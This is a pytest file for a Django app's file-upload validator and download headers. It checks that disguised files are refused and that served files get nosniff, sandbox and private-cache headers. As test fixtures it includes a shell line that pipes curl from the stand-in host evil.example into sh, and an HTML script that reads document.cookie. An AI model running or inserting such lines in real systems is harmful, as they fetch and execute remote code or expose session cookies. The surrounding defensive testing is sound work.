"""Uploads are judged by their content; downloads carry the right headers; stored names cannot be guessed."""

import io
import struct
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage

from clearinghouse.core.files import check_upload, private_name, serve_file


def png() -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def docx() -> bytes:
    import docx as python_docx

    document, out = python_docx.Document(), io.BytesIO()
    document.add_paragraph("Mangrove nurseries")
    document.save(out)
    return out.getvalue()


def xlsx() -> bytes:
    import openpyxl

    workbook, out = openpyxl.Workbook(), io.BytesIO()
    workbook.active["A1"] = "Country"
    workbook.save(out)
    return out.getvalue()


PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
       b"trailer<</Root 1 0 R>>\n%%EOF\n")
JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + b"\x08" * 64 + b"\xff\xd9"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x03\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
      + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 200)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"

REAL = [
    ("brief.pdf", PDF, "application/pdf", "application/pdf"),
    ("report.docx", docx(), "", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("table.xlsx", xlsx(), "application/octet-stream",
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("sites.csv", b"site,country,hectares\nGazi,KE,12\nMida,KE,7\n", "application/vnd.ms-excel", "text/csv"),
    ("utf16.csv", "site,country\nالمحمية,EG\n保护区,CN\n".encode("utf-16"), "text/csv", "text/csv"),
    ("map.png", png(), "image/png", "image/png"),
    ("photo.jpg", JPEG, "image/jpeg", "image/jpeg"),
    ("notes.txt", "التنوع البيولوجي هو تنوع الحياة على الأرض\n".encode(), "text/plain", "text/plain"),
]


@pytest.mark.parametrize("name,content,declared,stored", REAL, ids=[r[0] for r in REAL])
def test_real_files_are_accepted(name, content, declared, stored):
    assert check_upload(name=name, content=content, declared_type=declared) == stored
    assert check_upload(name=name, content=io.BytesIO(content)) == stored  # a file object too, left rewound


DISGUISED = [
    ("photo.png", HTML, "not what its name says"),
    ("photo.jpg", HTML, "not what its name says"),
    ("brief.pdf", ELF, "program or a script"),
    ("letter.doc", ELF, "program or a script"),
    ("notes.txt", ELF, "program or a script"),
    ("table.csv", ELF, "program or a script"),
    ("brief.pdf", PE, "program or a script"),
    ("letter.doc", PE, "program or a script"),
    ("brief.pdf", MACHO, "program or a script"),
    ("notes.txt", SCRIPT, "program or a script"),
    ("table.csv", SCRIPT, "program or a script"),
    ("notes.txt", HTML, "not what its name says"),
    ("report.docx", PDF, "not what its name says"),
    ("table.xlsx", docx(), "not what its name says"),
    ("empty.pdf", b"", "empty"),
    ("setup.exe", PE, "cannot be attached"),
]


@pytest.mark.parametrize("name,content,message", DISGUISED, ids=[f"{d[0]}-{i}" for i, d in enumerate(DISGUISED)])
def test_disguised_files_are_refused_with_a_message_naming_them(name, content, message):
    with pytest.raises(ValidationError) as exc:
        check_upload(name=name, content=content, declared_type="application/octet-stream")
    assert message in exc.value.messages[0] and name in exc.value.messages[0]


def test_the_declared_type_must_agree_with_the_name():
    with pytest.raises(ValidationError) as exc:
        check_upload(name="map.png", content=png(), declared_type="text/html")
    assert "does not match its name" in exc.value.messages[0]


def test_stored_names_are_random_and_keep_nothing_of_the_original():
    names = {private_name("records", "Plan de acción confidentiel.pdf") for _ in range(50)}
    assert len(names) == 50
    for name in names:
        assert name.startswith("records/") and name.endswith(".pdf") and "confidentiel" not in name
        assert len(name.rsplit("/", 1)[1]) == 32 + 4


class Stored:
    """What serve_file needs of a FieldFile: a storage name, a path and open()."""

    def __init__(self, name):
        self.name, self.path = name, default_storage.path(name)

    def open(self, mode="rb"):
        return default_storage.open(self.name, mode)


@pytest.fixture
def stored():
    return Stored(default_storage.save(private_name("records", "x.pdf"), ContentFile(PDF)))


def test_download_headers_inline_pdf_with_a_non_latin_name(stored):
    response = serve_file(stored, name="Отчёт 2024 تقرير.pdf", content_type="application/pdf")
    assert b"".join(response.streaming_content) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("inline;")
    assert "filename*=utf-8''%D0%9E%D1%82%D1%87%D1%91%D1%82%202024%20" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "private" in response["Cache-Control"]


def test_download_headers_attachment_and_sandbox_for_other_types(stored):
    response = serve_file(stored, name="table.csv", content_type="text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="table.csv"'
    assert "sandbox" in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"


def test_hand_off_to_the_web_server_by_setting(stored, settings):
    settings.CLEARINGHOUSE_FILE_HANDOFF = "nginx"
    settings.CLEARINGHOUSE_FILE_HANDOFF_PREFIX = "/protected-files/"
    response = serve_file(stored, name="a b.pdf", content_type="application/pdf")
    assert response["X-Accel-Redirect"] == "/protected-files/" + stored.name
    assert response.content == b"" and response["X-Content-Type-Options"] == "nosniff"
    settings.CLEARINGHOUSE_FILE_HANDOFF = "sendfile"
    response = serve_file(stored, name="a.pdf", content_type="application/pdf")
    assert response["X-Sendfile"] == stored.path and response.content == b""
